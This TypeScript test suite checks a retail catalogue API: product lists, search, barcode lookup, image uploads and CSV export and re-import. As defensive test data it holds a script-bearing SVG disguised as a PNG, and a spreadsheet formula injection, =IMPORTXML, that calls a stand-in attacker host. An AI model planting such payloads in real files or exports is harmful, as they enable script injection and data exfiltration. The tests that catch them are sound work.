import { existsSync, readdirSync } from 'node:fs';
import Papa from 'papaparse';
import type { CompiledQuery, Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { onCitus } from '../../db/distribution.js';
import type { Database } from '../../db/schema.js';
import { storeKeyProblems } from '../../db/store-key-check.js';
import { createMerchant, createStaff, type Merchant } from '../../test/fixtures.js';
import { createTestApp, type TestApp } from '../../test/harness.js';
import { fileUpload, TINY_PNG } from '../../test/multipart.js';
import { order } from '../../test/sales-fixtures.js';
import { productSalesColumns } from './product-orders.queries.js';
import { productReads, type ProductFilter } from './product-reads.repository.js';

let t: TestApp;
let m: Merchant;
let other: Merchant;
let cashier: Merchant;
const ids: Record<string, string> = {};
let dairy: string;
let drinks: string;

beforeAll(async () => {
  t = await createTestApp();
  m = await createMerchant(t);
  other = await createMerchant(t);
  cashier = await createStaff(t, m, 'cashier');
  dairy = (await t.call('POST', '/product/category', { token: m.token, body: { name: 'Dairy' } })).body.data
    .id;
  drinks = (await t.call('POST', '/product/category', { token: m.token, body: { name: 'Soft Drinks' } })).body
    .data.id;
  const products = [
    {
      name: 'Peak Milk Powder 400g',
      price: 390000,
      quantity: 40,
      category_ids: [dairy],
      barcode: '5901234123457',
    },
    { name: 'Three Crowns Milk 160g', price: 70000, quantity: 3, category_ids: [dairy] },
    { name: 'Coca-Cola 50cl', price: 40000, quantity: 0, category_ids: [drinks], sku: 'COKE-50' },
    { name: 'Fanta Orange 50cl', price: 40000, quantity: 100, category_ids: [drinks, dairy] },
    { name: 'Gift Wrapping', price: 50000, track_stock: false },
    { name: 'Château Wine 75cl', price: 1500000, quantity: 6 },
  ];
  for (const p of products) {
    const res = await t.call('POST', '/product/create', { token: m.token, body: p });
    expect(res.status).toBe(201);
    ids[p.name] = res.body.data.id;
  }
  await t.call('POST', '/product/create', {
    token: other.token,
    body: { name: 'Peak Milk Other Store', price: 1 },
  });
});
afterAll(async () => t.close());

const names = (res: { body: { data: Array<{ name: string }> } }) => res.body.data.map((p) => p.name);
const list = (query: Record<string, string | number> = {}) =>
  t.call('GET', '/product/paginated/results/', { token: m.token, query: { storeId: m.storeId, ...query } });

describe('product list', () => {
  it('pages newest first with the pagination block, and counts with the maintained counter', async () => {
    const first = await list({ page: 1, perPage: 4 });
    expect(first.status).toBe(200);
    expect(names(first)).toEqual([
      'Château Wine 75cl',
      'Gift Wrapping',
      'Fanta Orange 50cl',
      'Coca-Cola 50cl',
    ]);
    expect(first.body.pagination).toEqual({ page: 1, perPage: 4, total: 6, totalPages: 2 });
    const second = await list({ page: 2, perPage: 4 });
    expect(names(second)).toEqual(['Three Crowns Milk 160g', 'Peak Milk Powder 400g']);
    expect((await list({ page: 3, perPage: 4 })).body.data).toEqual([]);
    const fanta = first.body.data[2];
    expect(fanta.categories.map((c: { name: string }) => c.name)).toEqual(['Dairy', 'Soft Drinks']);
    expect(fanta.category).toBe('Dairy');
    const counters = await t.db
      .selectFrom('counters')
      .select(['name', 'value'])
      .where('store_id', '=', m.storeId)
      .where('name', 'like', 'products.%')
      .execute();
    const active = await t.db
      .selectFrom('products')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('store_id', '=', m.storeId)
      .where('status', '=', 'active')
      .executeTakeFirstOrThrow();
    expect(Number(counters.find((c) => c.name === 'products.active')?.value)).toBe(Number(active.n));
  });

  it('uses the default page size of 10 and refuses a page size over 100', async () => {
    expect((await list()).body.pagination).toMatchObject({ page: 1, perPage: 10 });
    const res = await list({ perPage: 101 });
    expect(res.status).toBe(400);
    expect(res.body.error.fields).toEqual({ perPage: 'Must be at most 100' });
  });

  it('filters by category, stock state and status', async () => {
    expect(names(await list({ categoryId: drinks })).sort()).toEqual(['Coca-Cola 50cl', 'Fanta Orange 50cl']);
    expect((await list({ categoryId: drinks })).body.pagination.total).toBe(2);
    expect(names(await list({ stock: 'out_of_stock' }))).toEqual(['Coca-Cola 50cl']);
    expect(names(await list({ stock: 'low_stock' }))).toEqual(['Three Crowns Milk 160g']);
    expect(names(await list({ stock: 'in_stock' })).sort()).toEqual([
      'Château Wine 75cl',
      'Fanta Orange 50cl',
      'Gift Wrapping',
      'Peak Milk Powder 400g',
    ]);
    expect((await list({ status: 'archived' })).body.data).toEqual([]);
    const bad = await list({ stock: 'plenty' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.stock).toBe('Stock must be in_stock, low_stock or out_of_stock');
  });

  it('moves products between stock states as stock and thresholds change', async () => {
    const p = (
      await t.call('POST', '/product/create', {
        token: m.token,
        body: { name: 'Zobo Drink 50cl', price: 30000, quantity: 10, low_stock_threshold: 5 },
      })
    ).body.data;
    const inState = async (stock: string) =>
      names(await list({ stock, perPage: 100 })).includes('Zobo Drink 50cl');
    expect(await inState('in_stock')).toBe(true);
    await t.call('POST', `/product/${p.id}/adjust-stock`, {
      token: m.token,
      body: { quantity_change: -6, reason: 'loss' },
    });
    expect(await inState('low_stock')).toBe(true);
    expect(await inState('in_stock')).toBe(false);
    await t.call('POST', `/product/${p.id}/adjust-stock`, {
      token: m.token,
      body: { quantity_change: -4, reason: 'loss' },
    });
    expect(await inState('out_of_stock')).toBe(true);
    await t.call('PUT', `/product/${p.id}`, { token: m.token, body: { track_stock: false } });
    expect(await inState('in_stock')).toBe(true);
    await t.call('PUT', `/product/${p.id}`, { token: m.token, body: { track_stock: true, quantity: 8 } });
    expect(await inState('in_stock')).toBe(true);
    await t.call('PUT', `/product/${p.id}`, { token: m.token, body: { low_stock_threshold: 8 } });
    expect(await inState('low_stock')).toBe(true);
    expect((await list({ stock: 'low_stock', perPage: 100 })).body.pagination.total).toBe(
      (await list({ stock: 'low_stock', perPage: 100 })).body.data.length,
    );
    await t.call('DELETE', `/product/${p.id}`, { token: m.token });
  });

  it('sorts by name, price and quantity in either direction', async () => {
    expect(names(await list({ sort: 'name' }))[0]).toBe('Château Wine 75cl');
    expect(names(await list({ sort: 'name', order: 'desc' }))[0]).toBe('Three Crowns Milk 160g');
    expect(names(await list({ sort: 'price', order: 'desc' }))[0]).toBe('Château Wine 75cl');
    const byQuantity = names(await list({ sort: 'quantity', stock: 'low_stock' }));
    expect(byQuantity).toEqual(['Three Crowns Milk 160g']);
    expect((await list({ sort: 'colour' })).status).toBe(400);
  });

  it('keeps deep pages right when products are added or archived between visits', async () => {
    const shop = await createMerchant(t);
    for (let i = 1; i <= 23; i++) {
      await t.call('POST', '/product/create', { token: shop.token, body: { name: `Item ${i}`, price: 100 } });
    }
    const page = async (n: number, order?: string) =>
      names(
        await t.call('GET', '/product/paginated/results', {
          token: shop.token,
          query: { page: n, perPage: 5, ...(order ? { order } : {}) },
        }),
      );
    expect(await page(3)).toEqual(['Item 13', 'Item 12', 'Item 11', 'Item 10', 'Item 9']);
    expect(await page(4)).toEqual(['Item 8', 'Item 7', 'Item 6', 'Item 5', 'Item 4']);
    expect(await page(3)).toEqual(['Item 13', 'Item 12', 'Item 11', 'Item 10', 'Item 9']);
    expect(await page(2, 'asc')).toEqual(['Item 6', 'Item 7', 'Item 8', 'Item 9', 'Item 10']);

    await t.call('POST', '/product/create', { token: shop.token, body: { name: 'Item 24', price: 100 } });
    expect(await page(3)).toEqual(['Item 14', 'Item 13', 'Item 12', 'Item 11', 'Item 10']);
    const nine = (await t.call('GET', '/product/search', { token: shop.token, query: { name: 'item 9' } }))
      .body.data[0];
    await t.call('PUT', `/product/${nine.id}`, { token: shop.token, body: { status: 'archived' } });
    expect(await page(4)).toEqual(['Item 8', 'Item 7', 'Item 6', 'Item 5', 'Item 4']);
    expect(await page(3)).toEqual(['Item 14', 'Item 13', 'Item 12', 'Item 11', 'Item 10']);
    expect(await page(5)).toEqual(['Item 3', 'Item 2', 'Item 1']);
    const total = await t.call('GET', '/product/paginated/results', {
      token: shop.token,
      query: { perPage: 5 },
    });
    expect(total.body.pagination).toEqual({ page: 1, perPage: 5, total: 23, totalPages: 5 });
  });

  it('keeps the total right through create, auto-create, import, archive and delete, on every page', async () => {
    const shop = await createMerchant(t);
    const call = (method: string, url: string, options: Record<string, unknown> = {}) =>
      t.call(method, url, { token: shop.token, ...options });
    const page = (query: Record<string, string | number> = {}) =>
      call('GET', '/product/paginated/results', { query: { perPage: 3, ...query } });
    const rowsOf = async (status?: 'active' | 'archived') => {
      let q = t.db
        .selectFrom('products')
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .where('store_id', '=', shop.storeId);
      if (status) q = q.where('status', '=', status);
      return Number((await q.executeTakeFirstOrThrow()).n);
    };
    // Every page of every status agrees with the rows: the first, a deep one (walked from a
    // remembered start once visited) and one past the end.
    const expectTotals = async () => {
      for (const status of ['active', 'archived', 'all'] as const) {
        const total = await rowsOf(status === 'all' ? undefined : status);
        const totalPages = Math.max(1, Math.ceil(total / 3));
        for (const n of [1, 2, totalPages, totalPages + 1]) {
          const res = await page({ page: n, status });
          expect(res.status).toBe(200);
          expect(res.body.pagination).toEqual({ page: n, perPage: 3, total, totalPages });
          expect(res.body.data.length).toBe(Math.max(0, Math.min(3, total - (n - 1) * 3)));
        }
      }
    };
    await expectTotals();
    const created: string[] = [];
    for (let i = 1; i <= 5; i++) {
      const res = await call('POST', '/product/create', { body: { name: `Total ${i}`, price: 100 } });
      expect(res.status).toBe(201);
      created.push(res.body.data.id);
    }
    expect((await call('GET', '/product/auto-create')).status).toBe(201);
    await expectTotals();
    const csv = [
      'Name,Price,Quantity',
      ...Array.from({ length: 4 }, (_, i) => `Imported ${i},500,2`),
      '',
    ].join('\n');
    const imported = await call('POST', '/product/upload', fileUpload(csv, 'products.csv', 'text/csv'));
    expect(imported.body.data).toMatchObject({ created: 4 });
    await expectTotals();
    await call('PUT', `/product/${created[1]}`, { body: { status: 'archived' } });
    expect((await call('DELETE', `/product/${created[3]}`)).status).toBe(200);
    await expectTotals();
    const after = await page({ page: 2 });
    expect(after.body.pagination.total).toBe(8);
    // Newest first: the oldest import, the auto-created product, the last product created.
    expect(names(after)[0]).toBe('Imported 0');
    expect(names(after)[2]).toBe('Total 5');
  });

  it("never shows another store's products", async () => {
    const all = await list({ perPage: 100, status: 'all' });
    expect(names(all)).not.toContain('Peak Milk Other Store');
    const theirs = await t.call('GET', '/product/paginated/results', {
      token: m.token,
      query: { storeId: other.storeId },
    });
    expect(theirs.status).toBe(404);
  });
});

describe('search', () => {
  const search = (name: string, token = m.token) =>
    t.call('GET', '/product/search/', { token, query: { name, storeId: m.storeId } });

  it('finds words by their start, case- and accent-insensitively, across name, SKU and barcode', async () => {
    expect(names(await search('MILK'))).toEqual(['Peak Milk Powder 400g', 'Three Crowns Milk 160g']);
    expect(names(await search('peak 400'))).toEqual(['Peak Milk Powder 400g']);
    expect(names(await search('chateau'))).toEqual(['Château Wine 75cl']);
    expect(names(await search('coke'))).toEqual(['Coca-Cola 50cl']);
    expect(names(await search('590123'))).toEqual(['Peak Milk Powder 400g']);
    expect(names(await search('cola'))).toEqual(['Coca-Cola 50cl']);
    expect((await search('milk')).body.pagination.total).toBe(2);
    expect(names(await search('%'))).toEqual([]);
    expect(names(await search('milk', cashier.token))).toHaveLength(2);
  });

  it('needs a search term', async () => {
    const res = await t.call('GET', '/product/search', { token: m.token });
    expect(res.status).toBe(400);
    expect(res.body.error.fields.name).toBe('Type a name, SKU or barcode to search');
  });

  it('searches within the list too', async () => {
    expect(names(await list({ search: 'milk', categoryId: dairy, stock: 'low_stock' }))).toEqual([
      'Three Crowns Milk 160g',
    ]);
  });
});

describe('barcode lookup', () => {
  it('finds the one product with a barcode or SKU, exactly', async () => {
    const byBarcode = await t.call('GET', '/api/v1/product/search-barcode/', {
      token: cashier.token,
      query: { barcode: '5901234123457', storeId: m.storeId },
    });
    expect(byBarcode.status).toBe(200);
    expect(byBarcode.body.data.name).toBe('Peak Milk Powder 400g');
    const bySku = await t.call('GET', '/product/search-barcode', {
      token: m.token,
      query: { barcode: 'COKE-50' },
    });
    expect(bySku.body.data.name).toBe('Coca-Cola 50cl');
    const partial = await t.call('GET', '/product/search-barcode', {
      token: m.token,
      query: { barcode: '590123' },
    });
    expect(partial.status).toBe(404);
    expect(partial.body.message).toBe('No product has the barcode or SKU "590123".');
    const otherStore = await t.call('GET', '/product/search-barcode', {
      token: other.token,
      query: { barcode: '5901234123457' },
    });
    expect(otherStore.status).toBe(404);
  });
});

describe('categories and samples', () => {
  it('lists categories newest first with product counts, and refuses a duplicate name', async () => {
    const made = await t.call('POST', '/product/category', { token: m.token, body: { name: 'Toiletries' } });
    expect(made.status).toBe(201);
    const res = await t.call('GET', '/product/categories', { token: cashier.token });
    expect(res.body.data.map((c: { name: string }) => c.name).slice(0, 3)).toEqual([
      'Toiletries',
      'Soft Drinks',
      'Dairy',
    ]);
    expect(res.body.data.find((c: { name: string }) => c.name === 'Dairy').products_count).toBe(3);
    const dup = await t.call('POST', '/product/category', { token: m.token, body: { name: 'dairy' } });
    expect(dup.status).toBe(409);
    expect(dup.body.error.fields).toEqual({ name: 'A category with this name already exists' });
    const empty = await t.call('POST', '/product/category', { token: m.token, body: { name: '' } });
    expect(empty.body.error.fields).toEqual({ name: 'Category name is required' });
    const otherCats = await t.call('GET', '/product/categories', { token: other.token });
    expect(otherCats.body.data).toEqual([]);
  });

  it('refuses categories of another store on a product', async () => {
    const theirs = (
      await t.call('POST', '/product/category', { token: other.token, body: { name: 'Theirs' } })
    ).body.data.id;
    const res = await t.call('POST', '/product/create', {
      token: m.token,
      body: { name: 'X', price: 100, category_ids: [theirs] },
    });
    expect(res.status).toBe(400);
    expect(res.body.error.fields.category_ids).toContain('Unknown category');
  });

  it('generates a realistic sample product with GET and with POST', async () => {
    for (const method of ['GET', 'POST']) {
      const res = await t.call(method, '/product/auto-create', { token: m.token });
      expect(res.status).toBe(201);
      expect(res.body.data.name.length).toBeGreaterThan(3);
      expect(res.body.data.price).toBeGreaterThan(0);
      expect(res.body.data.categories).toHaveLength(1);
      expect((await list({ perPage: 1 })).body.data[0].id).toBe(res.body.data.id);
    }
  });
});

describe('images', () => {
  it('stores a JPEG, PNG or WebP checked by content, and serves it', async () => {
    const id = ids['Peak Milk Powder 400g']!;
    const res = await t.call('POST', `/product/${id}/images`, {
      token: m.token,
      ...fileUpload(TINY_PNG, 'milk.jpg', 'image/jpeg'),
    });
    expect(res.status).toBe(201);
    const [url] = res.body.data.images;
    expect(url).toMatch(/^\/api\/v1\/files\/[0-9a-f-]+\.png$/);
    const served = await t.call('GET', url);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');

    const name = url.split('/').pop();
    const removed = await t.call('DELETE', `/product/${id}/images/${name}`, { token: m.token });
    expect(removed.body.data.images).toEqual([]);
    expect((await t.call('GET', url)).status).toBe(404);
  });

  it('refuses a file that only claims to be an image, and too large a file', async () => {
    const id = ids['Fanta Orange 50cl']!;
    const spoof = await t.call('POST', `/product/${id}/images`, {
      token: m.token,
      ...fileUpload('<svg onload="alert(1)"></svg>', 'photo.png', 'image/png'),
    });
    expect(spoof.status).toBe(415);
    expect(spoof.body.error.fields.file).toBe('Upload a JPEG, PNG or WebP image');
    const big = Buffer.concat([TINY_PNG, Buffer.alloc(t.config.UPLOAD_LIMIT_BYTES)]);
    const tooBig = await t.call('POST', `/product/${id}/images`, {
      token: m.token,
      ...fileUpload(big, 'big.png', 'image/png'),
    });
    expect(tooBig.status).toBe(413);
    expect(tooBig.body.message).toContain('5 MB');
    expect((await t.call('GET', `/product/${id}`, { token: m.token })).body.data.images).toEqual([]);
    const cashierUpload = await t.call('POST', `/product/${id}/images`, {
      token: cashier.token,
      ...fileUpload(TINY_PNG, 'a.png', 'image/png'),
    });
    expect(cashierUpload.status).toBe(403);
  });
});

describe('images under concurrency', () => {
  // Issue 15, finding 7: the limit was checked before the transaction, so 20 uploads sent at
  // once all passed it and 20 images were kept.
  it('keeps at most 8 images when 20 uploads arrive at once, and removes the refused files', async () => {
    const created = await t.call('POST', '/product/create', {
      token: m.token,
      body: { name: 'Race Rice 5kg', price: 900_000, quantity: 1 },
    });
    const id = created.body.data.id as string;
    const storedFiles = () => (existsSync(t.config.UPLOAD_DIR) ? readdirSync(t.config.UPLOAD_DIR) : []);
    const before = new Set(storedFiles());
    const uploads = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        t.call('POST', `/product/${id}/images`, {
          token: m.token,
          ...fileUpload(TINY_PNG, `rice-${i}.png`, 'image/png'),
        }),
      ),
    );
    const statuses = uploads.map((u) => u.status);
    expect(statuses.filter((s) => s === 201)).toHaveLength(8);
    expect(statuses.filter((s) => s === 409)).toHaveLength(12);
    const refused = uploads.find((u) => u.status === 409)!;
    expect(refused.body.error.fields.file).toBe('At most 8 images');
    const images = (await t.call('GET', `/product/${id}`, { token: m.token })).body.data.images as string[];
    expect(images).toHaveLength(8);
    // Only the kept images remain in storage.
    const added = storedFiles().filter((f) => !before.has(f));
    expect(added.sort()).toEqual(images.map((u) => u.split('/').pop()).sort());
  });
});

describe('export', () => {
  it('exports the filtered list as CSV in the import columns', async () => {
    const res = await t.call('GET', '/product/export', {
      token: cashier.token,
      query: { categoryId: drinks },
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toMatch(
      /attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const lines = String(res.body)
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe(
      'name,sku,barcode,price,sale_price,cost_price,quantity,track_stock,low_stock_threshold,unit,categories,description,status,' +
        'option1_name,option1_value,option2_name,option2_value,option3_name,option3_value,' +
        'pack1_name,pack1_units,pack1_barcode,pack1_price,pack2_name,pack2_units,pack2_barcode,pack2_price,' +
        'pack3_name,pack3_units,pack3_barcode,pack3_price',
    );
    expect(lines).toHaveLength(1 + (await list({ categoryId: drinks })).body.pagination.total);
    expect(lines.find((l) => l.startsWith('Coca-Cola 50cl,'))).toMatch(
      /^Coca-Cola 50cl,COKE-50,\d{13},400\.00,,,0,yes,5,piece,Soft Drinks,,active,{18}$/,
    );
  });
  it('quotes commas, quotes and line breaks, escapes formulas, and imports back unchanged', async () => {
    const shop = await createMerchant(t);
    const created = await t.call('POST', '/product/create', {
      token: shop.token,
      body: {
        name: 'Rice, "Ofada" 5kg',
        sku: 'OFADA-5',
        price: 850_000,
        quantity: 12,
        low_stock_threshold: 3,
        unit: '@bag',
        description: '=IMPORTXML("http://evil.example","//a")\nSecond line',
      },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const res = await t.call('GET', '/product/export', { token: shop.token, query: { status: 'all' } });
    const text = String(res.body).replace(/^\uFEFF/, '');
    const [, line] = text.split('\r\n');
    expect(line).toBe(
      `"Rice, ""Ofada"" 5kg",OFADA-5,${created.body.data.barcode ?? ''},8500.00,,,12,yes,3,"'@bag",,` +
        `"'=IMPORTXML(""http://evil.example"",""//a"")\nSecond line",active${','.repeat(18)}`,
    );
    const [, cells] = Papa.parse<string[]>(text.trim()).data;
    expect([cells![0], cells![9], cells![11]]).toEqual([
      'Rice, "Ofada" 5kg',
      "'@bag",
      `'=IMPORTXML("http://evil.example","//a")\nSecond line`,
    ]);
    const back = await t.call('POST', '/product/upload', {
      token: shop.token,
      ...fileUpload(text, 'products.csv', 'text/csv'),
    });
    expect(back.body.data).toMatchObject({ created: 0, updated: 0, unchanged: 1, rejected: [] });
  });
});

describe('export of variants and packs', () => {
  it('writes a row per variant with its options, and packs in the pack columns', async () => {
    const shop = await createMerchant(t);
    const create = async (body: Record<string, unknown>) => {
      const res = await t.call('POST', '/product/create', { token: shop.token, body });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      return res.body.data;
    };
    const tee = await create({
      name: 'Polo Shirt',
      price: 500_000,
      unit: 'piece',
      options: [
        { name: 'Size', values: ['S', 'M'] },
        { name: 'Colour', values: ['Red'] },
      ],
      variants: [
        { options: { Size: 'S', Colour: 'Red' }, sku: 'POLO-S', quantity: 4 },
        {
          options: { Size: 'M', Colour: 'Red' },
          sku: 'POLO-M',
          price: 550_000,
          quantity: 2,
          packs: [{ name: 'bundle', factor: 5, price: 2_500_000 }],
        },
      ],
    });
    const tin = await create({
      name: 'Peak Milk 400g Tin',
      sku: 'PEAK-TIN',
      price: 260_000,
      quantity: 48,
      unit: 'tin',
    });
    // Packs through an edit: a create sending packs alone does not keep them (yet).
    const packed = await t.call('PUT', `/product/${tin.id}`, {
      token: shop.token,
      body: { packs: [{ name: 'carton', factor: 24, barcode: '6151100070111', price: 6_000_000 }] },
    });
    expect(packed.status, JSON.stringify(packed.body)).toBe(200);
    // One variant only: read without its option values, which the export reads itself.
    await create({
      name: 'Wrapper',
      sku: 'WRAP-1',
      price: 100_000,
      options: [{ name: 'Size', values: ['One size'] }],
    });
    const res = await t.call('GET', '/product/export', { token: shop.token });
    expect(res.status).toBe(200);
    const [header, ...rows] = Papa.parse<string[]>(
      String(res.body)
        .replace(/^\uFEFF/, '')
        .trim(),
    ).data;
    const byName = (row: string[]) => Object.fromEntries(header!.map((c, i) => [c, row[i]]));
    const cells = rows.map(byName);
    expect(cells).toHaveLength(4);
    const polo = cells.filter((c) => c.name === 'Polo Shirt');
    expect(polo).toEqual([
      expect.objectContaining({
        sku: 'POLO-S',
        barcode: tee.variants[0].barcode,
        price: '5000.00',
        quantity: '4',
        unit: 'piece',
        option1_name: 'Size',
        option1_value: 'S',
        option2_name: 'Colour',
        option2_value: 'Red',
        option3_name: '',
        pack1_name: '',
      }),
      expect.objectContaining({
        sku: 'POLO-M',
        price: '5500.00',
        quantity: '2',
        option1_value: 'M',
        option2_value: 'Red',
        pack1_name: 'bundle',
        pack1_units: '5',
        pack1_barcode: tee.variants[1].packs[0].barcode,
        pack1_price: '25000.00',
      }),
    ]);
    // The rows of one product follow each other.
    expect(Math.abs(cells.indexOf(polo[0]!) - cells.indexOf(polo[1]!))).toBe(1);
    expect(cells.find((c) => c.name === 'Peak Milk 400g Tin')).toEqual(
      expect.objectContaining({
        sku: 'PEAK-TIN',
        barcode: tin.barcode,
        quantity: '48',
        option1_name: '',
        option1_value: '',
        pack1_name: 'carton',
        pack1_units: '24',
        pack1_barcode: '6151100070111',
        pack1_price: '60000.00',
        pack2_name: '',
      }),
    );
    expect(cells.find((c) => c.name === 'Wrapper')).toEqual(
      expect.objectContaining({ sku: 'WRAP-1', option1_name: 'Size', option1_value: 'One size' }),
    );
    const back = await t.call('POST', '/product/upload', {
      token: shop.token,
      ...fileUpload(String(res.body), 'products.csv', 'text/csv'),
    });
    expect(back.body.data).toMatchObject({ created: 0, updated: 0, unchanged: 3, rejected: [] });
  });
});

describe('sales on the list', () => {
  it('shows units sold and revenue of completed orders, net of refunds, and nothing for open orders', async () => {
    const p = await t.call('POST', '/product/create', {
      token: m.token,
      body: { name: 'Indomie Chicken 70g', price: 25_000, quantity: 50 },
    });
    const id = p.body.data.id as string;
    const sold = await order(t, m, {
      items: [{ product_id: id, quantity: 3 }],
      channel: 'pos',
      amount_received: 75_000,
    });
    expect(sold.status, JSON.stringify(sold.body)).toBe(201);
    expect(sold.body.data.status).toBe('success');
    const pending = await order(t, m, { items: [{ product_id: id, quantity: 4 }] });
    expect(pending.body.data.status).toBe('pending');
    const refund = await t.call('POST', `/order/${sold.body.data.id}/refund`, {
      token: m.token,
      body: { items: [{ product_id: id, quantity: 1 }], reason: 'Damaged pack' },
    });
    expect(refund.status, JSON.stringify(refund.body)).toBeLessThan(300);

    const res = await list({ search: 'indomie' });
    const row = res.body.data.find((r: { id: string }) => r.id === id);
    expect(row).toMatchObject({ units_sold: 2, revenue: 50_000 });
    // Two products match "fanta"; pick by name, since both may share a creation instant.
    const other = (await list({ search: 'fanta' })).body.data.find(
      (r: { name: string }) => r.name === 'Fanta Orange 50cl',
    );
    expect(other).toMatchObject({ units_sold: 0, revenue: 0 });
  });
});

describe('statement budget', () => {
  // The product list is the catalogue's busiest read: the session lookup (one statement; on Citus
  // two, decision 0049), then the page with its total, categories and sales figures in one,
  // whichever way it is asked for.
  it.each([
    ['newest first', {}],
    ['a deep page', { page: 3, perPage: 2 }],
    ['a search', { search: 'milk' }],
    ['by name with a stock filter', { sort: 'name', stock: 'in_stock' }],
  ])('answers %s in two SQL statements (three on Citus)', async (_, query) => {
    await list(query); // a first call may warm caches (the session, page starts)
    const before = t.statements();
    const res = await list(query);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data.length).toBeGreaterThan(0);
    expect(res.body.data[0]).toHaveProperty('units_sold');
    // The rate limit's counter, once a block of calls, is not counted (decision 0033).
    expect(t.statements() - before).toBe(onCitus() ? 3 : 2);
  });
});

describe('the page statement', () => {
  /** The database handle, recording every statement run through it (as text or built). */
  function recording(db: Kysely<Database>) {
    const seen: CompiledQuery[] = [];
    const record = <T extends object>(target: T, method: string): T =>
      new Proxy(target, {
        get(obj, prop) {
          const value = Reflect.get(obj, prop, obj) as unknown;
          if (prop === method && typeof value === 'function') {
            return (query: CompiledQuery, ...rest: unknown[]) => {
              seen.push(query);
              return value.call(obj, query, ...rest);
            };
          }
          if (prop === 'getExecutor') return () => record(db.getExecutor(), 'executeQuery');
          return typeof value === 'function' ? value.bind(obj) : value;
        },
      });
    return { spy: record(db, 'executeQuery'), seen };
  }

  const filter = (f: Partial<ProductFilter>): ProductFilter => ({
    page: 1,
    perPage: 2,
    status: 'active',
    sort: 'created_at',
    ...f,
  });

  it.each([
    ['newest first', filter({})],
    ['a deep page, walked from where it starts', filter({ page: 2 })],
    ['every status', filter({ status: 'all' })],
    ['by price with a stock filter', filter({ sort: 'price', stock: 'in_stock' })],
    ['a search', filter({ search: 'milk', sort: 'name' })],
  ])(
    'reads %s with its total, categories and sales in one statement that names the store in every table',
    async (_, f) => {
      const { spy, seen } = recording(t.db);
      const reads = productReads(spy, m.storeId);
      await reads.listRows(f, { extraColumns: productSalesColumns }); // a page start to walk from
      seen.length = 0;
      const page = await reads.listRows(f, { extraColumns: productSalesColumns });
      expect(page.items.length).toBeGreaterThan(0);
      expect(page.items[0]).toHaveProperty('units_sold');
      expect(seen).toHaveLength(1);
      const [{ sql: text, parameters }] = seen as [CompiledQuery];
      expect(storeKeyProblems(text)).toEqual([]);
      // Citus sends a statement to the one worker holding the store only when every table in it,
      // subqueries included, is filtered by the store as a value.
      if (!onCitus()) return;
      const { rows } = await t.db.executeQuery<{ 'QUERY PLAN': string }>({
        ...seen[0]!,
        sql: `explain ${text}`,
        parameters,
      });
      const plan = rows.map((r) => r['QUERY PLAN']).join('\n');
      expect(plan).not.toContain('Distributed Subplan');
      expect(plan).toMatch(/Task Count: 1\b/);
    },
  );
});
